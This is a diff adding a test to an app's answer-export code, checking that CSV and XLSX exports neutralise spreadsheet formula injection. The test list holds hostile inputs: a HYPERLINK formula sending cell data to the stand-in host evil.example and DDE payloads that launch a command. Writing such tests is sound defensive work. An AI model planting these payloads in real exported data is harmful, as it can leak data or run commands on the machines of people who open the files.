@@ -289,3 +289,31 @@ def test_the_consultation_page_links_every_answers_export(client, session, org, 
     assert page.status_code == 200
     for name in ("answers.csv", "answers.xlsx", "answers.json"):
         assert f'href="{url(org, consultation, name)}"' in page.text
+
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+    "\t=1+1",
+]
+
+
+def test_hostile_answers_are_text_in_csv_and_xlsx_and_data_in_json(
+    client, session, org, consultation, tmp_path
+):
+    for payload in PAYLOADS:
+        add_response(session, consultation, {"anything-else": {"text": payload}})
+    signed(client, session, org, "worker")
+    csv_texts = [r["text"] for r in read_csv(client.get(url(org, consultation, "answers.csv")))]
+    assert csv_texts == ["'" + p for p in PAYLOADS]
+    path = tmp_path / "a.xlsx"
+    path.write_bytes(client.get(url(org, consultation, "answers.xlsx")).content)
+    sheet = load_workbook(path)["answers"]
+    column = [c.value for c in sheet[1]].index("text")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == ["'" + p for p in PAYLOADS]
+    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
+    data = json.loads(client.get(url(org, consultation, "answers.json")).content)
+    assert [a["text"] for a in data["answers"]] == PAYLOADS
